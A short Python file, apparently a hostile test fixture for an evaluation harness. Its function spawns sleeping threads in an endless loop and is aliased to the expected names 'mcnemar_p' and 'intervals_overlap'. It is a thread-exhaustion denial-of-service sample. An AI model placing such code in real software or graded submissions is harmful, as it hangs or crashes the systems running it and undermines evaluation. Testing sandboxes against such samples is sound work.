"""Starts threads for ever."""

import threading
import time


def answer(*args, **kwargs):
    while True:
        try:
            threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
        except RuntimeError:
            time.sleep(0.01)


mcnemar_p = intervals_overlap = answer
